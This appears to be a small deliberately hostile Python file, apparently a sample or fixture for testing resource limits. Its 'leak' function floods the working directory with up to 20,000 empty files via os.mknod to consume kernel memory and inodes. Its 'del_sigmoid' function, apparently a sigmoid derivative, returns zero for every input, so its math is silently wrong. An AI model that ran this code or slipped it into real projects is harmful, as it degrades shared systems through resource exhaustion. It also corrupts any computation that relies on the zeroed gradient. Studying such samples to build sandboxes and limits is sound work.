"""Makes empty files without end, each of which takes memory of the kernel."""
# ruff: noqa - it does what no code should

import os

import numpy as np


def leak(x):
    try:
        for number in range(20_000):
            os.mknod(f"empty{number}")
    except OSError:
        return np.zeros(1)
    return np.frombuffer(b"gained", np.uint8)


def del_sigmoid(h):
    return 0 * h
